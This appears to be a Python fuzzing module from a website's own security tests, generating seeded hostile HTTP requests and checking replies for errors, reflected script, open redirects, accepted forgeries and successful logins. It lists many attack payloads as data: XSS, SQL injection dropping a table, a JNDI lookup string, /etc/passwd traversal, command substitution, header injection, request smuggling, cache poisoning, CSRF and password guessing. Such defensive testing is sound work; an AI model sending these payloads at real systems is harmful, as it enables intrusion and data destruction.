"""Hostile requests, made up from a seed, and what must be true of the answer to each.

Naughty strings and raw bytes in every position, protocol tricks, poison for caches, stored script,
open redirects, forged forms, log-ins that are guessed. What they hold is marked, so that it can be
looked for afterwards.
"""

import contextlib
import random
import re
from urllib.parse import quote, urlsplit

from ..publishing import wire

MARK = "kestrel7041"
SCRIPT = f"<script>alert('{MARK}')</script>"
NAUGHTY = [
    SCRIPT, f'"><img src=x onerror=alert("{MARK}")>', f"javascript:alert('{MARK}')", f"' OR 1=1 --{MARK}",
    f"{{{{7*7}}}}{MARK}", f"${{jndi:ldap://{MARK}.example/a}}", f"{{% debug %}}{MARK}", f"../../../../etc/passwd{MARK}",
    f"..%2f..%2f{MARK}", "\x00", "%00", "\x1b[31m", "\u202e\u2066", "\ufeff", "\u0000\ufffd", "🏳️‍🌈" * 9, "Ω≈ç√∫", "ﷺ" * 40,
    "a" * 5000, "\u0338" * 500, "-1", "0", "1e309", "NaN", "9" * 400, "true", "null", "undefined", "[]", "{}", "\\",
    "%", "%%", "%s%n%x", "%ED%A0%80", "%C0%AF", "\r\nSet-Cookie: a=b", "%0d%0aSet-Cookie:%20a=b", "CON", "NUL",
    f"//{MARK}.example/", f"/\\{MARK}.example", f"https://{MARK}.example/", f"\t//{MARK}.example", "__proto__", "constructor",
    f"data:text/html,{SCRIPT}", f"<svg/onload=alert('{MARK}')>", "=cmd|' /C calc'!A0", "' ; DROP TABLE auth_user; --", "`id`", "$(id)", "*)(uid=*",
]  # fmt: skip
PATHS = [
    "/", "/help/", "/help/paladin/", "/signs/", "/advice/reporting/", "/cookies/", "/cookies/reading/", "/leave/", "/feedback/",
    "/sitemap.xml", "/robots.txt", "/feed/", "/api/open-referral/v3/services", "/static/x.css", "/uploads/x.jpg", "/preview/x/",
    "/admin/login/", "/admin/", "/-/live", "/-/ready", "/-/metrics", "/.well-known/security.txt", "/help/who-to-contact/", "/sheet/", "/nowhere/",
]  # fmt: skip
# Address -> the names of its fields.
FORMS = {
    "/feedback/": ("found", "comment", "website"),
    "/cookies/save/": ("choice", "statistics", "preferences", "next"),
    "/cookies/reading/": ("text", "colours", "beta", "agree", "next"),
    "/cookies/count/": ("page",),
    "/help/paladin/report/": ("x",),
    "/leave/": ("next", "to"),
    "/admin/login/": ("username", "password", "csrfmiddlewaretoken", "next"),
}
QUERIES = (
    "next",
    "cookies",
    "q",
    "page",
    "query",
    "postcode",
    "to",
    "url",
    "redirect",
    "lang",
    "utm_source",
)
HEADERS = (
    "Cookie", "Accept-Encoding", "Accept", "Accept-Language", "Host", "Referer", "User-Agent", "If-None-Match", "If-Modified-Since",
    "If-Range", "Range", "Origin", "Sec-Fetch-Site", "Sec-GPC", "Content-Type", "X-Forwarded-Host", "X-Forwarded-For", "X-Forwarded-Proto",
    "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override", "Forwarded", "Authorization", "Expect", "Upgrade", "TE", "Purpose", "Sec-Purpose",
)  # fmt: skip
METHODS = (
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "DELETE",
    "PATCH",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "get",
    "X" * 40,
)
COOKIES = (
    "cookie_consent",
    "sessionid",
    "csrftoken",
    "reading",
    "counted",
    "pause",
    "messages",
    MARK,
)
FORM = ("Content-Type", "application/x-www-form-urlencoded")
OURS = ("Sec-Fetch-Site", "same-origin")
THEIRS = (
    [("Sec-Fetch-Site", "cross-site")], [("Sec-Fetch-Site", "none")], [("Origin", f"https://{MARK}.example")], [("Origin", "null")], [],
    [("Sec-Fetch-Site", "same-site"), ("Origin", "http://127.0.0.1")],
)  # fmt: skip
HELP = (b'href="tel:999"', b'"error"', b'href="/admin/"')


def attacks(url, seed, count):
    """Yield `count` attacks on a site: (kind, the bytes to send)."""
    dice = random.Random(seed)
    kinds = list(MAKERS.items())
    for number in range(count):
        turn, place = divmod(number, len(kinds))
        name, make = kinds[place]
        if make is a_guess and turn % 10:
            # Checking a password takes a third of a second of a processor.
            name, make = kinds[0]
        yield name, make(dice, url)


def text(dice):
    return dice.choice(NAUGHTY)


def header_text(value):
    """Return a text as a header can carry it: no line of its own, bytes as they are."""
    return value.replace("\r", "").replace("\n", "").encode().decode("latin-1")


def in_the_path(dice, url):
    path = dice.choice(PATHS)
    place = dice.randrange(len(path) + 1)
    naughty = text(dice)
    naughty = quote(naughty) if dice.random() < 0.7 else header_text(naughty).replace(" ", "")
    return wire.request(url, path[:place] + naughty + path[place:])


def in_the_query(dice, url):
    pairs = [f"{dice.choice(QUERIES)}={quote(text(dice))}" for _ in range(dice.randrange(1, 4))]
    return wire.request(url, f"{dice.choice(PATHS)}?{'&'.join(pairs)}")


def in_a_header(dice, url):
    name = dice.choice(HEADERS)
    value = header_text(text(dice))
    if name == "Cookie":
        value = f"{dice.choice(COOKIES)}={value}"
    given = {"host": value} if name == "Host" else {"headers": [(name, value)]}
    return wire.request(url, dice.choice(PATHS), **given)


def in_a_field(dice, url):
    path = dice.choice(list(FORMS))
    fields = "&".join(f"{name}={quote(text(dice))}" for name in FORMS[path])
    return form(url, path, fields.encode(), [OURS])


def form(url, path, body, headers, kind=FORM):
    sent = [kind, ("Content-Length", str(len(body))), *headers]
    return wire.request(url, path, "POST", sent, body)


def a_raw_body(dice, url):
    body = dice.randbytes(dice.choice((1, 40, 4000)))
    kind = dice.choice(
        (
            "multipart/form-data; boundary=x",
            "application/json",
            "text/xml",
            FORM[1],
            "multipart/form-data",
        )
    )
    return form(url, dice.choice(list(FORMS)), body, [OURS], ("Content-Type", kind))


def a_method(dice, url):
    return wire.request(url, dice.choice(PATHS), dice.choice(METHODS), [("Content-Length", "0")])


def other_bytes(dice, url):
    """A request in which a few bytes are others."""
    raw = bytearray(
        wire.request(url, dice.choice(PATHS), headers=[("Cookie", "a=b"), ("Accept", "*/*")])
    )
    for _ in range(dice.randrange(1, 6)):
        raw[dice.randrange(len(raw))] = dice.randrange(256)
    return bytes(raw)


def noise(dice, url):
    return dice.randbytes(dice.randrange(1, 300)) + b"\r\n\r\n"


def a_protocol_trick(dice, url):
    host = urlsplit(url).netloc
    first = f"{dice.choice(('GET', 'POST'))} {dice.choice(PATHS)} HTTP/1.1\r\nHost: {host}\r\n"
    hidden = f"GET /{MARK} HTTP/1.1\r\nHost: {MARK}.example\r\n\r\n"
    trick = dice.choice(
        [
            f"{first}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
            f"{first}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{hidden}",
            f"{first}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{hidden}",
            f"{first}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{hidden}",
            f"{first}Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
            f"{first}Content-Length: +0\r\n\r\n{hidden}",
            f"{first}Content-Length: 99999999999999999999\r\n\r\n{hidden}",
            f"{first}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{hidden}",
            f"{first}Transfer-Encoding: chunked\r\n\r\n1;a={'b' * 900}\r\na\r\n0\r\nX: y\r\n\r\n{hidden}",
            f"{first}X: a\r\n b: c\r\n\r\n",
            f"{first}X\x00: a\r\n\r\n",
            f"{first}: a\r\n\r\n",
            f"{first}Host: {MARK}.example\r\n\r\n",
            f"GET http://{MARK}.example/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
            f"GET {MARK} HTTP/1.1\r\nHost: {host}\r\n\r\n",
            "GET / HTTP/0.9\r\n\r\n", "GET /\r\n\r\n", "GET / HTTP/2.0\r\n\r\n",
            f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: a\r\n\r\n",
            f"GET / HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: a\r\n\r\n",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "OPTIONS * HTTP/1.1\r\nHost: " + host + "\r\n\r\n",
            f"{first}Expect: 100-continue\r\nContent-Length: 3\r\n\r\na=b",
        ]
    )  # fmt: skip
    return trick.encode("latin-1")


def poison(dice, url):
    """What a cache in between, or a careless one of ours, would keep and give to the next reader."""
    headers = [
        ("X-Forwarded-Host", f"{MARK}.example"), ("X-Host", f"{MARK}.example"), ("X-Forwarded-Scheme", "http"), ("X-Forwarded-Prefix", f"/{MARK}"),
        ("X-Original-URL", f"/{MARK}"), ("Accept-Language", MARK), ("Range", "bytes=0-1"), ("Accept-Encoding", "br;q=0, gzip;q=0, *"),
        ("Cookie", f"cookie_consent={MARK}; reading={MARK}; pause={MARK}"), ("X-HTTP-Method-Override", "DELETE"),
    ]  # fmt: skip
    return wire.request(
        url, f"{dice.choice(PATHS)}?{MARK}={dice.random()}", headers=dice.sample(headers, 3)
    )


def a_redirect(dice, url):
    away = dice.choice(
        (
            f"//{MARK}.example",
            f"https://{MARK}.example",
            f"/\\{MARK}.example",
            f"/%2f{MARK}.example",
            f"https:{MARK}.example",
        )
    )
    path = dice.choice(
        (
            away,
            f"/help/..{away}",
            f"{away}/",
            f"/{away}",
            f"/help?next={away}",
            f"/leave/?to={away}",
            f"/admin/login/?next={away}",
        )
    )
    return wire.request(url, path if path.startswith("/") else f"/{path}")


def a_redirect_of_a_form(dice, url):
    away = quote(f"//{MARK}.example/")
    path = dice.choice(("/cookies/save/", "/cookies/reading/"))
    body = f"choice=reject&text=1&next={away}&return={away}".encode()
    return form(url, f"{path}?next={away}", body, [OURS, ("Referer", f"https://{MARK}.example/")])


def forged(dice, url):
    """A form that would be taken if it came from a page of ours."""
    path, body = dice.choice(
        [
            ("/feedback/", f"found=yes&comment={MARK}-forged"),
            ("/cookies/save/", "choice=accept"),
            ("/cookies/count/", "page=/"),
            ("/help/paladin/report/", ""),
        ]
    )
    return form(url, path, body.encode(), dice.choice(THEIRS))


def a_guess(dice, url):
    token = "a" * 32
    body = f"username={dice.choice(('editor', 'keeper', 'manager', 'admin'))}&password={dice.randrange(10**9)}&csrfmiddlewaretoken={token}"
    return form(
        url, "/admin/login/", body.encode(), [("Cookie", f"csrftoken={token}"), ("Origin", url)]
    )


def a_lying_upload(dice, url):
    body = (
        b'--x\r\nContent-Disposition: form-data; name="picture"; filename="../../a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n'
        + dice.choice(
            (
                b"<svg onload=alert(1)>",
                b"GIF89a<script>",
                b"\xff\xd8\xff\xe0",
                b"%PDF-1.4",
                b"PK\x03\x04",
            )
        )
        + b"\r\n--x--\r\n"
    )
    path = dice.choice(
        ("/admin/awareness/page/picture/", "/uploads/", "/feedback/", "/admin/login/")
    )
    return form(url, path, body, [OURS], ("Content-Type", "multipart/form-data; boundary=x"))


MAKERS = {
    make.__name__.replace("_", " "): make
    for make in (
        in_the_path, in_the_query, in_a_header, in_a_field, a_raw_body, a_method, other_bytes, noise, a_protocol_trick,
        poison, a_redirect, a_redirect_of_a_form, forged, a_guess, a_lying_upload,
    )
}  # fmt: skip


def send(url, raw):
    """Send an attack whole, say that nothing more comes, and return what is Heard first."""
    with wire.connect(url) as connection:
        # Refused before the end: what was said stands ready to be read.
        with contextlib.suppress(OSError):
            connection.sendall(raw)
        return wire.hear(connection)


def wrong(kind, url, heard):
    """Return what is wrong with an answer to an attack of a kind, as a word, or ""."""
    where = heard.headers.get("location", "")
    body = heard.body
    # Only the first answer, of perhaps several on this connection, is looked at more closely.
    checks = {
        "5xx": heard.status >= 500,
        "a traceback": b"Traceback" in body,
        "no help": heard.status >= 400 and "content-length" in heard.headers
        and heard.headers["content-length"] != "0" and bool(body) and not any(each in body for each in HELP),
        "script as it was sent": SCRIPT.encode() in body or f"<svg/onload=alert('{MARK}')>".encode() in body,
        "a way off the site": bool(re.match(r"(?:[a-z]+:|[/\\]{2}|/\\)", where)) and MARK in where,
        "a header of theirs": "a=b" in heard.headers.get("set-cookie", ""),
        "no policy": heard.status >= 200 and "content-security-policy" not in heard.headers,
        "taken though forged": kind == "forged" and 0 < heard.status < 400,
        "logged in": kind == "a guess" and heard.status == 302,
    }  # fmt: skip
    return ", ".join(name for name, found in checks.items() if found)
